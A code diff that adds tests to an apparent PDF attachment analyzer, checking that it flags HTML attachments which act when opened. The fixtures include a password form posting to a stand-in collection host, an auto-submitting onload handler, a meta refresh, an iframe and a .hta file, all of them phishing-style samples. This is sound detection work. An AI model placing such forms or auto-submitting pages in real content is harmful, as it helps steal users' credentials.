@@ -894,6 +894,32 @@ describe("an attachment of data is context (info severity), not evidence", () =>
   });
 });
 
+describe("embedded-active-content: an HTML page that acts when a browser opens it", () => {
+  const fires = (pdf: Uint8Array) =>
+    analyzeFast(pdf, { fileName: "x.pdf" }).findings.some((f) => f.ruleId === "embedded-active-content");
+  it.each([
+    [
+      "a credential form",
+      '<html><form action="https://collect.example/p.php" method="post"><input name="u"><input type="password" name="p"></form></html>',
+    ],
+    [
+      "a refresh to another page",
+      '<html><head><meta http-equiv="refresh" content="0;url=https://x.example/"></head></html>',
+    ],
+    ["an event handler", '<html><body onload="document.forms[0].submit()"></body></html>'],
+    ["an iframe", '<html><body><iframe src="https://x.example/"></iframe></body></html>'],
+  ])("fires on %s", (_name, html) => {
+    expect(fires(attachment("view.html", html))).toBe(true);
+  });
+
+  it("fires on an .hta whatever it holds, not on a page of text, pictures and links", () => {
+    expect(fires(attachment("update.hta", "<html><body>Update</body></html>"))).toBe(true);
+    const page =
+      '<!doctype html><html><body><h1>Release notes</h1><img src="https://cdn.example/logo.png"><a href="https://example.com/">Home</a></body></html>';
+    expect(fires(attachment("notes.html", page))).toBe(false);
+  });
+});
+
 describe("benign fixtures stay benign", () => {
   it("a plain report fires no high or critical rule and is benign with high confidence", () => {
     const r = analyzeFast(plainReport(), { fileName: "report.pdf" });
